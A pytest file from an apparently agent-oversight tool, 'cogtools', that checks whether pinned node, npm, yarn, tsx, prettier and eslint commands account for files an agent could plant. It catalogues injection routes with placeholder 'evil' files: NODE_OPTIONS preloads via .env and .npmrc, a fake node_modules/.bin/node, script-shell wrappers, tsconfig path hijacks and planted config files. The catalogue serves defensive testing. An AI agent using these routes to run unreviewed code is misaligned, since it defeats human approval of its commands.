"""What a pinned command runs of the workspace through node's and the package managers' own
conventions, as cogtools reads it (an attacker's pass over issue 43's pins): each case is a way
the agent's file ran under a pinned tool, and must now be in the tool's code (a change to it is
then refused) or leave the tool open (it runs only when asked)."""

from __future__ import annotations

import json
import os
import re
import typing as t
from pathlib import Path

import pytest

from cogtools.run.program_files import command_code, package_imports
from cogtools.trust.pins import scanned

from .conftest import write


def package(root: Path, name: str, files: dict[str, str] | None = None) -> Path:
    """An installed package ``name`` in ``root``'s node_modules."""
    directory = root / "node_modules" / name
    write(directory / "package.json", json.dumps({"name": name, "version": "1.0.0"}))
    for path, text in (files or {"index.js": "module.exports = 1;\n"}).items():
        write(directory / path, text)
    return directory


@pytest.mark.parametrize("flag", [["-r", "pre"], ["--require=pre"], ["--import", "pre"], ["--import=pre"]])
def test_a_package_node_preloads_by_name_is_pinned(tmp_path: Path, flag: list[str]) -> None:
    pre = package(tmp_path, "pre")
    write(tmp_path / "x.js", "\n")
    code = command_code(["node", *flag, "x.js"], tmp_path, tmp_path)
    assert pre in code.files and code.open == (), code


def test_a_package_node_preloads_that_is_installed_nowhere_is_open(tmp_path: Path) -> None:
    write(tmp_path / "x.js", "\n")
    assert command_code(["node", "-r", "ghost", "x.js"], tmp_path, tmp_path).open != ()


@pytest.mark.parametrize("flag", ["--env-file=.env", "--env-file-if-exists=.env"])
def test_the_env_file_node_reads_is_pinned(tmp_path: Path, flag: str) -> None:
    """(node reads NODE_OPTIONS from it, which can preload anything)"""
    write(tmp_path / ".env", "NODE_OPTIONS=--require ./evil.cjs\n")
    write(tmp_path / "x.js", "\n")
    assert tmp_path / ".env" in command_code(["node", flag, "x.js"], tmp_path, tmp_path).files


def test_node_test_without_files_runs_what_it_finds_and_is_open(tmp_path: Path) -> None:
    write(tmp_path / "t.test.js", "\n")
    ((why, needs),) = command_code(["node", "--test"], tmp_path, tmp_path).open
    assert "test files" in why and needs is None
    assert command_code(["node", "--test", "t.test.js"], tmp_path, tmp_path).open == ()


def script(root: Path, command: str) -> None:
    write(root / "package.json", json.dumps({"name": "a", "scripts": {"s": command}}))


@pytest.mark.parametrize(
    "command",
    [
        "NODE_ENV=x node x.js",
        "env FOO=1 node x.js",
        "exec node x.js",
        "time node x.js",
        "(node x.js)",
        "if true; then node x.js; fi",
        "! node x.js",
        "nice -n 5 node x.js",
    ],
)
def test_a_program_a_script_runs_after_a_prefix_is_looked_for_in_node_modules_bin(tmp_path: Path, command: str) -> None:
    script(tmp_path, command)
    write(tmp_path / "x.js", "\n")
    planted = write(tmp_path / "node_modules" / ".bin" / "node", "#!/bin/sh\n", mode=0o755)
    assert planted in command_code(["npm", "run", "s"], tmp_path, tmp_path).files


def test_a_program_a_shell_script_of_a_script_runs_is_looked_for_in_node_modules_bin(tmp_path: Path) -> None:
    """(the manager's PATH is the shell script's too: `sh scripts/r.sh` whose r.sh runs node)"""
    script(tmp_path, "sh scripts/r.sh")
    write(tmp_path / "scripts" / "r.sh", "FOO=1 node x.js\n")
    write(tmp_path / "x.js", "\n")
    planted = write(tmp_path / "node_modules" / ".bin" / "node", "#!/bin/sh\n", mode=0o755)
    assert planted in command_code(["npm", "run", "s"], tmp_path, tmp_path).files
    assert planted not in command_code(["sh", "scripts/r.sh"], tmp_path, tmp_path).files  # (not under npm)


def bin_program(root: Path, name: str, entry: str, program: str = "") -> None:
    """An installed package ``name`` whose program ``entry`` npm links in node_modules/.bin (as
    ``program``, by default the package's name)."""
    package(root, name, {entry: "\n"})
    os.chmod(root / "node_modules" / name / entry, 0o755)  # (as npm leaves it)
    os.makedirs(root / "node_modules" / ".bin", exist_ok=True)
    os.symlink(f"../{name}/{entry}", root / "node_modules" / ".bin" / (program or name))


def finds(argv: list[str], root: Path, planted: Path, text: str = "module.exports = {};\n") -> bool:
    """Whether a reading of ``argv`` finds a configuration written at ``planted``, by a look (a
    pin records what each look finds, not each place where nothing is): not there, nothing of it
    is named; written, it is code and what its look finds. (It is removed again.)"""
    before = command_code(argv, root, root)
    assert planted not in before.files, before.files
    write(planted, text)
    try:
        after = command_code(argv, root, root)
    finally:
        planted.unlink()
    found = planted in after.files and any(planted in paths for _, paths in after.looks)
    assert found or planted not in after.files, after  # (a configuration named by no look: found by name)
    return found


def test_the_javascript_a_package_program_of_a_script_is_given_is_followed(tmp_path: Path) -> None:
    """(nodemon, babel-node and the like run the file they are given)"""
    bin_program(tmp_path, "runf", "cli.js")
    script(tmp_path, "runf scripts/x.js")
    write(tmp_path / "scripts" / "x.js", "require('./lib.js');\n")
    write(tmp_path / "scripts" / "lib.js", "\n")
    assert tmp_path / "scripts" / "lib.js" in command_code(["npm", "run", "s"], tmp_path, tmp_path).files


def test_the_script_a_package_program_of_a_script_is_given_is_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "tsx", "dist/cli.mjs")
    script(tmp_path, "tsx scripts/x.ts")
    write(tmp_path / "scripts" / "x.ts", "import './lib.js';\n")
    write(tmp_path / "scripts" / "lib.ts", "\n")
    files = command_code(["npm", "run", "s"], tmp_path, tmp_path).files
    assert tmp_path / "scripts" / "x.ts" in files and tmp_path / "scripts" / "lib.ts" in files, files


@pytest.mark.parametrize(
    ("imported", "found"), [("./words.js", "words.ts"), ("./comp", "comp.tsx"), ("./m.mjs", "m.mts")]
)
def test_typescripts_own_forms_of_a_relative_import_are_followed(tmp_path: Path, imported: str, found: str) -> None:
    write(tmp_path / "x.ts", f"import '{imported}';\n")
    write(tmp_path / found, "\n")
    write(tmp_path / "package.json", '{"name": "a"}')
    assert tmp_path / found in command_code(["node", "x.ts"], tmp_path, tmp_path).files


def test_yarns_env_file_is_pinned(tmp_path: Path) -> None:
    script(tmp_path, "node x.js")
    assert tmp_path / ".env.yarn" in command_code(["yarn", "s"], tmp_path, tmp_path).files


def test_what_node_options_in_npmrc_preload_is_pinned(tmp_path: Path) -> None:
    script(tmp_path, "node x.js")
    write(tmp_path / ".npmrc", "node-options=--require ./setup.cjs\n")
    write(tmp_path / "setup.cjs", "require('./more.cjs');\n")
    write(tmp_path / "more.cjs", "\n")
    files = command_code(["npm", "run", "s"], tmp_path, tmp_path).files
    assert tmp_path / "setup.cjs" in files and tmp_path / "more.cjs" in files, files


@pytest.mark.parametrize(
    ("manager", "rc", "line"),
    [
        ("npm", ".npmrc", "script-shell=./scripts/shell.sh\n"),
        ("pnpm", ".npmrc", 'script-shell = "./scripts/shell.sh"\n'),
        ("yarn", ".yarnrc", 'script-shell "./scripts/shell.sh"\n'),
    ],
)
def test_the_shell_a_manager_runs_scripts_with_is_its_code(tmp_path: Path, manager: str, rc: str, line: str) -> None:
    """(newcomer pass 17's MAJOR-8: .npmrc's script-shell=./scripts/shell.sh and .yarnrc's
    script-shell name a wrapper every script runs through: edited, it ran under `npm run`)"""
    script(tmp_path, "node x.js")
    write(tmp_path / rc, line)
    shell = write(tmp_path / "scripts" / "shell.sh", '#!/bin/sh\n. ./scripts/lib.sh\nexec /bin/sh "$@"\n', mode=0o755)
    lib = write(tmp_path / "scripts" / "lib.sh", "\n")
    files = set(command_code([manager, "run", "s"], tmp_path, tmp_path).files)
    assert {shell, lib} <= files, files


@pytest.mark.parametrize(
    "argv", [["typedoc"], ["typedoc", "--tsconfig", "tsconfig.doc.json"], ["typedoc", "--options", "tsconfig.doc.json"]]
)
def test_the_plugins_typedoc_reads_from_a_tsconfig_are_its_code(tmp_path: Path, argv: list[str]) -> None:
    """(newcomer pass 17's MAJOR-10: typedoc reads its options, plugins too, from tsconfig.json's
    typedocOptions, or the tsconfig --tsconfig names: neither was read for what it loads)"""
    bin_program(tmp_path, "typedoc", "bin/typedoc")
    options = '{"compilerOptions": {"module": "nodenext"}, "include": ["docsrc"], "typedocOptions":'
    options += ' {"entryPoints": ["docsrc/index.ts"], "plugin": ["./docsrc/td-plugin.mjs"]}}'
    write(tmp_path / ("tsconfig.json" if len(argv) == 1 else argv[2]), options)
    plugin = write(tmp_path / "docsrc" / "td-plugin.mjs", "import './more.mjs';\n")
    more = write(tmp_path / "docsrc" / "more.mjs", "\n")
    entry = write(tmp_path / "docsrc" / "index.ts", "\n")
    code = command_code(argv, tmp_path, tmp_path)
    assert {plugin, more} <= set(code.files) and entry not in code.files, code.files
    assert not [why for why, _ in code.open if "typedoc" not in why], code.open


def test_the_release_a_yarn_path_names_is_followed_as_a_script(tmp_path: Path) -> None:
    script(tmp_path, "true")
    write(tmp_path / ".yarnrc", "yarn-path ./yarn/bin/yarn.js\n")
    write(tmp_path / "yarn" / "bin" / "yarn.js", "require('../lib/cli.js');\n")
    write(tmp_path / "yarn" / "lib" / "cli.js", "\n")
    files = {os.path.normpath(path) for path in command_code(["yarn", "s"], tmp_path, tmp_path).files}
    assert str(tmp_path / "yarn" / "lib" / "cli.js") in files, files


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("import { createRequire as cr } from 'module';\nconst r = cr(import.meta.url);\nr('p1');", {"p1"}),
        ("import{createRequire as cr}from'node:module';cr(import.meta.url)('p2')", {"p2"}),
        ("var __require = (x) => require(x);\n__require('p3');", {"p3"}),
        ("require(require.resolve('p4'));", {"p4"}),
    ],
)
def test_the_forms_bundlers_load_a_package_by_are_read(text: str, names: set[str]) -> None:
    assert package_imports(text) == names


def test_a_packages_typescript_files_are_read_for_their_imports() -> None:
    """(tsx loads a package's .ts files, which node alone would not)"""
    assert all(scanned(f"/n/p/src/a{suffix}") for suffix in (".ts", ".mts", ".cts", ".tsx"))
    assert not scanned("/n/p/a.d.ts") and not scanned("/n/p/a.d.mts")
    # (nor its tests: zod's import esbuild, which then would be pinned with every zod tool)
    assert not any(scanned(p) for p in ("/n/p/src/tests/a.ts", "/n/p/src/a.test.ts", "/n/p/__tests__/b.tsx"))
    # nor a JavaScript test nor its build's own file (a newcomer's m11: esrecurse's gulpfile imports
    # minimist, and any package bringing minimist asked again for every eslint tool)
    assert not any(scanned(p) for p in ("/n/p/test/a.js", "/n/p/a.spec.mjs", "/n/p/gulpfile.babel.js"))
    assert scanned("/n/p/lib/index.js") and scanned("/n/p/bin/cli")


def test_an_import_in_a_comment_of_a_package_loads_nothing() -> None:
    """(a newcomer's m11: `require('braces')` in a JSDoc example of vite's bundle)"""
    text = "/**\n * @example\n * const b = require('braces');\n */\n// import 'x';\nrequire('real');\n"
    assert package_imports(text) == {"real"}


def test_a_ts_tools_tsconfig_is_its_code(tmp_path: Path) -> None:
    """(tsx reads tsconfig.json: its paths can send `import "zod"` to any file)"""
    tsx = package(tmp_path, "tsx", {"dist/loader.mjs": "\n"})
    write(tmp_path / "tools" / "t.ts", "import 'zod';\n")
    write(tmp_path / "tsconfig.json", '{"extends": "./tsconfig.base.json"}')
    write(tmp_path / "tsconfig.base.json", "{}")
    code = command_code(["node", f"--import={tsx}/dist/loader.mjs", "tools/t.ts"], tmp_path, tmp_path)
    for name in ("tools/tsconfig.json", "tsconfig.json", "tsconfig.base.json"):  # (nearest up, named when missing)
        assert tmp_path / name in code.files, (name, code.files)


def test_the_review_names_tsx_by_where_node_finds_it_not_pnpms_store(tmp_path: Path) -> None:
    """(a new user's m4: sync's review showed node_modules/.pnpm/tsx@4.23.15/... machine paths)"""
    from cogtools.run.script import _relative_flag

    store = tmp_path / "node_modules" / ".pnpm" / "tsx@4.23.15" / "node_modules" / "tsx"
    write(store / "dist" / "loader.mjs", "\n")
    os.symlink(".pnpm/tsx@4.23.15/node_modules/tsx", tmp_path / "node_modules" / "tsx")
    word = f"--import={store.resolve()}/dist/loader.mjs"
    assert _relative_flag(word, tmp_path.resolve()) == "--import=node_modules/tsx/dist/loader.mjs"
    assert _relative_flag("--import=./x.mjs", tmp_path) == "--import=./x.mjs"


# --- the re-check of the mends (an attacker's pass: /tmp/work/attack5.md) ------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["node", "-r", "./s.cjs", "x.js"],
        ["node", "--env-file", ".env.local", "x.js"],
        ["node", "--import", "./s.cjs", "--", "x.js"],
        ["node", "x"],  # (a name without its suffix)
    ],
)
def test_the_script_node_runs_is_found_past_its_options_values(tmp_path: Path, argv: list[str]) -> None:
    write(tmp_path / "s.cjs", "\n")
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    assert tmp_path / "lib.js" in command_code(argv, tmp_path, tmp_path).files


def test_node_given_a_directory_runs_its_main(tmp_path: Path) -> None:
    write(tmp_path / "package.json", '{"name": "a", "main": "src/main.js"}')
    write(tmp_path / "src" / "main.js", "require('./lib.js');\n")
    write(tmp_path / "src" / "lib.js", "\n")
    assert tmp_path / "src" / "lib.js" in command_code(["node", "."], tmp_path, tmp_path).files


@pytest.mark.parametrize("flag", ["-e", "-p", "--eval"])
def test_what_code_given_to_node_inline_loads_is_followed(tmp_path: Path, flag: str) -> None:
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    pre = package(tmp_path, "pre")
    code = command_code(["node", flag, "require('./x'); require('pre')"], tmp_path, tmp_path)
    assert tmp_path / "lib.js" in code.files and pre in code.files and code.open == (), code
    assert command_code(["node", flag, "console.log(1 + 1)"], tmp_path, tmp_path).open == ()
    ((why, needs),) = command_code(["node", flag, "require(process.argv[1])"], tmp_path, tmp_path).open
    assert "only when it runs" in why and needs is None


def test_a_preload_without_its_suffix_and_an_env_files_node_options_are_followed(tmp_path: Path) -> None:
    write(tmp_path / "setup.cjs", "\n")
    write(tmp_path / "x.js", "\n")
    assert tmp_path / "setup.cjs" in command_code(["node", "-r", "./setup", "x.js"], tmp_path, tmp_path).files
    write(tmp_path / ".env", "NODE_OPTIONS=--require ./setup.cjs\n")
    assert tmp_path / "setup.cjs" in command_code(["node", "--env-file=.env", "x.js"], tmp_path, tmp_path).files


@pytest.mark.parametrize("command", ["true\nnode x.js", "echo $(node x.js)", "echo `node x.js`", "cd sub && node x.js"])
def test_a_package_script_is_read_past_newlines_substitutions_and_cd(tmp_path: Path, command: str) -> None:
    script(tmp_path, command)
    where = tmp_path / "sub" if command.startswith("cd") else tmp_path
    write(where / "x.js", "require('./lib.js');\n")
    write(where / "lib.js", "\n")
    assert where / "lib.js" in command_code(["npm", "run", "s"], tmp_path, tmp_path).files


@pytest.mark.parametrize("flag", [["--import", "tsx"], ["--import=tsx"], ["-r", "tsx/cjs"], ["-r", "ts-node/register"]])
def test_tsx_named_any_way_has_its_tsconfig_pinned_from_the_script_and_from_where_it_runs(
    tmp_path: Path, flag: list[str]
) -> None:
    package(tmp_path, "tsx")
    package(tmp_path, "ts-node")
    write(tmp_path / "tools" / "t.ts", "\n")
    write(tmp_path / "tools" / "tsconfig.json", "{}")
    write(tmp_path / "tsconfig.json", '{\n  // with comments\n  "extends": "./base.json",\n}\n')
    write(tmp_path / "base.json", "{}")
    files = command_code(["node", *flag, "tools/t.ts"], tmp_path, tmp_path).files
    for name in ("tools/tsconfig.json", "tsconfig.json", "base.json"):
        assert tmp_path / name in files, (name, files)


def test_a_typescript_file_written_beside_the_javascript_one_imported_is_a_change(tmp_path: Path) -> None:
    write(tmp_path / "x.js", "require('./a.js');\n")
    write(tmp_path / "a.js", "\n")
    assert tmp_path / "a.ts" in command_code(["node", "x.js"], tmp_path, tmp_path).files  # (named while missing)


def test_git_C_and_a_worktrees_configuration_are_read_where_git_reads_them(tmp_path: Path) -> None:
    from cogtools.run.program_files import program_configuration

    write(tmp_path / "other" / ".git" / "config", "\n")
    files = program_configuration(["git", "-C", "other", "log"], tmp_path)
    assert tmp_path / "other" / ".git" / "config" in files
    assert tmp_path / "other" / ".git" / "config.worktree" in files


@pytest.mark.parametrize(("imported", "preferred"), [("./b", "b.ts"), ("./c", "c/index.ts"), ("./a.js", "a.ts")])
def test_the_typescript_tsx_would_prefer_is_named_while_missing(tmp_path: Path, imported: str, preferred: str) -> None:
    write(tmp_path / "x.js", f"require('{imported}');\n")
    for js in ("b.js", "c/index.js", "a.js"):
        write(tmp_path / js, "\n")
    assert tmp_path / preferred in command_code(["node", "x.js"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "command", ["NODE_OPTIONS='--require ./setup.cjs' node x.js", "env NODE_OPTIONS=--require=./setup.cjs node x.js"]
)
def test_node_options_set_in_a_script_are_followed(tmp_path: Path, command: str) -> None:
    script(tmp_path, command)
    write(tmp_path / "setup.cjs", "\n")
    write(tmp_path / "x.js", "\n")
    assert tmp_path / "setup.cjs" in command_code(["npm", "run", "s"], tmp_path, tmp_path).files


def test_a_script_that_names_its_file_by_a_variable_is_open(tmp_path: Path) -> None:
    script(tmp_path, "node $npm_package_config_entry")
    ((why, needs),) = command_code(["npm", "run", "s"], tmp_path, tmp_path).open
    assert "by a variable" in why and needs is None


def test_what_yarns_env_file_preloads_is_followed(tmp_path: Path) -> None:
    script(tmp_path, "node x.js")
    write(tmp_path / ".env.yarn", "NODE_OPTIONS=--require ./setup.cjs\n")
    write(tmp_path / "setup.cjs", "\n")
    assert tmp_path / "setup.cjs" in command_code(["yarn", "s"], tmp_path, tmp_path).files


def test_node_options_env_sets_for_a_command_tool_are_followed(tmp_path: Path) -> None:
    write(tmp_path / "setup.js", "\n")
    write(tmp_path / "x.js", "require('./lib.js');\n")
    write(tmp_path / "lib.js", "\n")
    files = command_code(["env", "NODE_OPTIONS=-r ./setup", "node", "x.js"], tmp_path, tmp_path).files
    assert tmp_path / "setup.js" in files and tmp_path / "lib.js" in files, files


@pytest.mark.parametrize(
    "text", ['{"extends": "./tsconfig.json"}', "{ not json", '{"extends": ["./a.json", 7, null]}', "[" * 100_000]
)
def test_a_hostile_tsconfig_is_pinned_and_read_no_further(tmp_path: Path, text: str) -> None:
    """(a tsconfig that extends itself, is no JSON, or nests past any parser's depth: pinned as
    it is, followed no further than it can be, and no error)"""
    tsx = package(tmp_path, "tsx", {"dist/loader.mjs": "\n"})
    write(tmp_path / "t.ts", "\n")
    write(tmp_path / "tsconfig.json", text)
    write(tmp_path / "a.json", "{}")
    code = command_code(["node", f"--import={tsx}/dist/loader.mjs", "t.ts"], tmp_path, tmp_path)
    assert tmp_path / "tsconfig.json" in code.files


# --- tsx's view of a program (an attacker's re-check: F5, F11, F13 of /tmp/work/attack5.md) -------


def tsx_run(root: Path, script: str) -> list[str]:
    """A command tool that runs ``script`` through tsx's loader."""
    tsx = package(root, "tsx", {"dist/loader.mjs": "\n"})
    return ["node", f"--import={tsx}/dist/loader.mjs", script]


@pytest.mark.parametrize(
    "config", ['{"compilerOptions": {"baseUrl": "."}}', '{"compilerOptions": {"paths": {"*": ["./*"]}}}']
)
def test_a_file_that_tsconfig_maps_an_import_by_name_to_is_a_change_while_missing(tmp_path: Path, config: str) -> None:
    """(F11: with baseUrl, tsx takes a new zod.ts for `import "zod"` before node_modules/zod)"""
    zod = package(tmp_path, "zod")
    write(tmp_path / "tsconfig.json", config)
    write(tmp_path / "tools" / "t.ts", "import 'zod';\n")
    code = command_code(tsx_run(tmp_path, "tools/t.ts"), tmp_path, tmp_path)
    assert {tmp_path / "zod.ts", tmp_path / "zod" / "index.ts", zod} <= set(code.files), code.files
    write(tmp_path / "zod.ts", "\n")  # (now it is what tsx loads, and what it imports is followed)
    write(tmp_path / "zod.ts", "import './evil.ts';\n")
    write(tmp_path / "evil.ts", "\n")
    assert tmp_path / "evil.ts" in command_code(tsx_run(tmp_path, "tools/t.ts"), tmp_path, tmp_path).files


def test_an_alias_of_tsconfig_paths_is_followed_not_taken_for_a_package(tmp_path: Path) -> None:
    """(`"@/*": ["./src/*"]`, as Vite's and Next's templates write it: no longer open as a package
    installed nowhere)"""
    write(tmp_path / "tsconfig.json", '{"compilerOptions": {"baseUrl": ".", "paths": {"@/*": ["src/*"]}}}')
    write(tmp_path / "tools" / "t.ts", "import { f } from '@/lib/fmt';\n")
    write(tmp_path / "src" / "lib" / "fmt.ts", "import './more.js';\n")
    write(tmp_path / "src" / "lib" / "more.ts", "\n")
    code = command_code(tsx_run(tmp_path, "tools/t.ts"), tmp_path, tmp_path)
    assert tmp_path / "src" / "lib" / "more.ts" in code.files and code.open == (), code
    # (without tsx, node takes it for a package)
    write(tmp_path / "tools" / "u.mjs", "import '@/lib/fmt';\n")
    assert command_code(["node", "tools/u.mjs"], tmp_path, tmp_path).open != ()


@pytest.mark.parametrize(
    ("jsx", "pragma", "runtime"),
    [
        ("react-jsx", "", "minijsx"),
        ("react-jsxdev", "", "minijsx"),
        ("react", "/** @jsxRuntime automatic @jsxImportSource other */\n", "other"),
        ("react", "", None),  # (the classic transform imports nothing)
    ],
)
def test_the_jsx_runtime_a_tsx_file_imports_unwritten_is_its_code(
    tmp_path: Path, jsx: str, pragma: str, runtime: str | None
) -> None:
    """(F13: esbuild compiles <div/> to an import of `<jsxImportSource>/jsx-runtime`)"""
    runtimes = {name: package(tmp_path, name) for name in ("minijsx", "other")}
    write(tmp_path / "tsconfig.json", json.dumps({"compilerOptions": {"jsx": jsx, "jsxImportSource": "minijsx"}}))
    write(tmp_path / "t.tsx", f"{pragma}console.log(<div />);\n")
    files = command_code(tsx_run(tmp_path, "t.tsx"), tmp_path, tmp_path).files
    assert [name for name, directory in runtimes.items() if directory in files] == ([runtime] if runtime else [])


def test_a_tsconfig_extended_through_a_package_is_followed_into_the_next_package(tmp_path: Path) -> None:
    """(F5: @cfg/outer's tsconfig extends @cfg/inner, which outer does not declare)"""
    package(tmp_path, "@cfg/outer", {"tsconfig.json": '{"extends": "@cfg/inner/base.json"}'})
    inner = package(tmp_path, "@cfg/inner", {"base.json": '{"compilerOptions": {"paths": {"zod": ["./z.ts"]}}}'})
    write(tmp_path / "tsconfig.json", '{"extends": "@cfg/outer"}')
    write(tmp_path / "t.ts", "import 'zod';\n")
    files = command_code(tsx_run(tmp_path, "t.ts"), tmp_path, tmp_path).files
    assert inner in files, files
    assert inner / "z.ts" in files  # (its paths are relative to the file that sets them: named while missing)


def test_a_refusal_names_the_file_written_where_none_was_before_what_it_displaced() -> None:
    from cogtools.trust.pins import _closure_change

    pinned = {"files": {"node_modules/zod/": "a", "zod.ts": None}, "settings": {}}
    now = {"files": {"zod.ts": "b"}, "settings": {}}
    assert _closure_change(pinned, now) == "it now runs zod.ts"


@pytest.mark.parametrize(
    "text",
    [
        'node "$(dirname "$0")/h.js"',
        'node "${0%/*}/h.js"',
        'DIR="$(cd "$(dirname "$0")" && pwd)"\nnode "$DIR/h.js"',
        'HERE=$(dirname "$0")\nnode "$HERE/h.js"',
        'D="$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" &> /dev/null && pwd)"; node "${D}/h.js"',
        # (an attacker's G21: the idioms copied most, which were refused needlessly)
        'DIR="$( cd "$( dirname "${BASH_SOURCE[0]}" )" >/dev/null 2>&1 && pwd )"\nnode "$DIR/h.js"',
        'DIR=`dirname "$0"`\nnode "$DIR/h.js"',
        'DIR="$(cd -P -- "$(dirname -- "$0")" && pwd -P)"\nnode "$DIR/h.js"',
        'cd -P "$(dirname "$0")"\nnode h.js',
        'bash -c "node \\"$(dirname "$0")/h.js\\""',
    ],
)
def test_a_shell_script_running_its_sibling_by_its_own_directory_pins_it(tmp_path: Path, text: str) -> None:
    """(F25: a script's directory, written in place or through a variable, is where it looks)"""
    write(tmp_path / "s" / "r.sh", text + "\n")
    write(tmp_path / "s" / "h.js", "require('./lib.js');\n")
    write(tmp_path / "s" / "lib.js", "\n")
    code = command_code(["sh", "s/r.sh"], tmp_path, tmp_path)
    assert tmp_path / "s" / "lib.js" in code.files and code.open == (), code


@pytest.mark.parametrize(("text", "why"), [('node "$X/h.js"', "names only when it runs"), ("node h.js\0", "NUL")])
def test_a_shell_script_running_what_a_variable_names_is_open(tmp_path: Path, text: str, why: str) -> None:
    write(tmp_path / "r.sh", text + "\n")
    ((reason, needs),) = command_code(["sh", "r.sh"], tmp_path, tmp_path).open
    assert why in reason and needs is None
    write(tmp_path / "r.sh", 'exec node x.js "$@" "$1"\n')  # (its arguments are its caller's)
    assert command_code(["sh", "r.sh"], tmp_path, tmp_path).open == ()


def test_the_environment_files_berry_injects_are_followed(tmp_path: Path) -> None:
    """(F20: `injectEnvironmentFiles: [.env.shared?]` of .yarnrc.yml: its NODE_OPTIONS preloads
    into every script yarn runs)"""
    script(tmp_path, "node x.js")
    write(tmp_path / "x.js", "\n")
    write(tmp_path / ".yarnrc.yml", "injectEnvironmentFiles:\n  - .env.shared?\n  - 7\n")
    code = command_code(["yarn", "s"], tmp_path, tmp_path)
    assert tmp_path / ".env.shared" in code.files  # (named while missing)
    write(tmp_path / ".env.shared", "NODE_OPTIONS=--require ./setup.cjs\n")
    write(tmp_path / "setup.cjs", "\n")
    assert tmp_path / "setup.cjs" in command_code(["yarn", "s"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "argv",
    [
        ["node_modules/.bin/dotenv", "--", "node", "x.js"],
        ["node_modules/.bin/dotenv", "-e", ".env.ci", "--", "node", "x.js"],
        ["node_modules/.bin/env-cmd", "-f=.env.ci", "node", "x.js"],
    ],
)
def test_the_env_file_an_env_loader_reads_is_followed(tmp_path: Path, argv: list[str]) -> None:
    """(F10: dotenv-cli and env-cmd put a .env's NODE_OPTIONS into what they run)"""
    bin_program(tmp_path, "dotenv-cli", "index.js", "dotenv")
    bin_program(tmp_path, "env-cmd", "index.js")
    write(tmp_path / "x.js", "\n")
    env_file = tmp_path / (".env.ci" if "-e" in argv or "env-cmd" in argv[0] else ".env")
    assert env_file in command_code(argv, tmp_path, tmp_path).files  # (named while missing)
    write(env_file, "NODE_OPTIONS='-r ./setup.cjs'\n")
    write(tmp_path / "setup.cjs", "\n")
    assert tmp_path / "setup.cjs" in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.parametrize("argv", [["python3", "app"], ["python3", "-X", "utf8", "--", "app"]])
def test_python_given_a_directory_runs_its_main_and_imports_from_it(tmp_path: Path, argv: list[str]) -> None:
    """(F8: python DIR runs DIR/__main__.py, DIR first on its sys.path)"""
    write(tmp_path / "app" / "__main__.py", "import helper\n")
    write(tmp_path / "app" / "helper.py", "\n")
    files = command_code(argv, tmp_path, tmp_path).files
    assert {tmp_path / "app" / "__main__.py", tmp_path / "app" / "helper.py"} <= set(files), files


@pytest.mark.parametrize("flags", [["-m", "json.tool"], ["-Bm", "json.tool"], ["-c", "print(1)"]])
def test_the_file_python_is_given_after_a_module_or_code_is_read_not_run(tmp_path: Path, flags: list[str]) -> None:
    """(`python3 -m json.tool data.json` took data.json for the script, and every file beside it)"""
    write(tmp_path / "data.json", "{}\n")
    write(tmp_path / "notes.md", "\n")
    files = command_code(["python3", *flags, "data.json"], tmp_path, tmp_path).files
    assert tmp_path / "data.json" in files and tmp_path / "notes.md" not in files, files


@pytest.mark.parametrize(
    ("argv", "planted"),
    [
        (["prettier", "--check", "src"], "src/deep/.prettierrc.mjs"),
        (["prettier", "--check", "src/deep/a.js"], "src/deep/prettier.config.js"),
        (["prettier", "--check", "src/**/*.js"], "src/deep/.prettierrc.cjs"),
        # (newcomer pass 14's MAJOR-2: two names prettier 3 looks for that cogtools did not)
        (["prettier", "--check", "src"], "src/deep/.prettierrc.toml"),
        (["prettier", "--check", "src"], "src/deep/package.yaml"),
        (["prettier", "--check", "{{ path }}"], "other/.prettierrc.mjs"),
        (["stylelint", "src/**/*.css"], "src/deep/.stylelintrc.json"),
    ],
)
def test_a_configuration_a_per_file_tool_finds_below_where_it_runs_is_named_while_missing(
    tmp_path: Path, argv: list[str], planted: str
) -> None:
    """(a newcomer's F: prettier looks for its configuration from each file it formats, so a
    src/.prettierrc.mjs the agent plants ran under a pinned `prettier --check src`)"""
    write(tmp_path / "src" / "deep" / "a.js", "\n")
    write(tmp_path / "other" / "b.js", "\n")
    write(tmp_path / "node_modules" / "x" / ".prettierrc.mjs", "\n")
    code = command_code(argv, tmp_path, tmp_path)
    assert code.open == () and not any("node_modules" in str(path) for path in code.files), code  # (left out)
    assert finds(argv, tmp_path, tmp_path / planted, "{}\n")
    write(tmp_path / planted, "import './evil.mjs';\n" if planted.endswith(("js", "mjs", "cjs")) else "{}\n")
    write((tmp_path / planted).parent / "evil.mjs", "\n")
    if planted.endswith("mjs"):  # (and what it loads, followed)
        assert (tmp_path / planted).parent / "evil.mjs" in command_code(argv, tmp_path, tmp_path).files


def eslint(root: Path, version: str) -> None:
    bin_program(root, "eslint", "bin/eslint.js")
    write(root / "node_modules" / "eslint" / "package.json", json.dumps({"name": "eslint", "version": version}))


@pytest.mark.parametrize(
    ("argv", "planted"),
    [
        (["eslint", "tools"], "tools/eslint.config.js"),
        (["npx", "eslint", "tools/a.mjs"], "tools/eslint.config.mjs"),
        (["eslint"], "tools/deep/eslint.config.ts"),
        (["eslint", "--format", "json", "-o", "report.txt"], "tools/eslint.config.cjs"),
        # (attack9's F2: a value naming what is there, of an option the table lacked, made it "given a file")
        (["eslint", "--cache", "--cache-file", "report.txt"], "tools/eslint.config.js"),
        (["eslint", "--fix", "--fix-type", "report.txt"], "tools/deep/eslint.config.js"),
    ],
)
def test_eslint_10_finds_its_configuration_from_each_file_it_lints(
    tmp_path: Path, argv: list[str], planted: str
) -> None:
    """(newcomer pass 12's X: ESLint 10 looks for eslint.config.* from each file's directory; a
    planted tools/eslint.config.js ran under every pinned eslint tool)"""
    eslint(tmp_path, "10.15.0")
    write(tmp_path / "eslint.config.js", "export default [];\n")
    write(tmp_path / "tools" / "deep" / "a.mjs", "\n")
    write(tmp_path / "report.txt", "\n")
    assert finds(argv, tmp_path, tmp_path / planted)
    write(tmp_path / planted, "import '../evil.mjs';\nexport default [];\n")
    evil = write((tmp_path / planted).parent.parent / "evil.mjs", "\n")
    assert evil in command_code(argv, tmp_path, tmp_path).files


def test_eslint_9_takes_the_configuration_nearest_where_it_runs_unless_a_flag_says(tmp_path: Path) -> None:
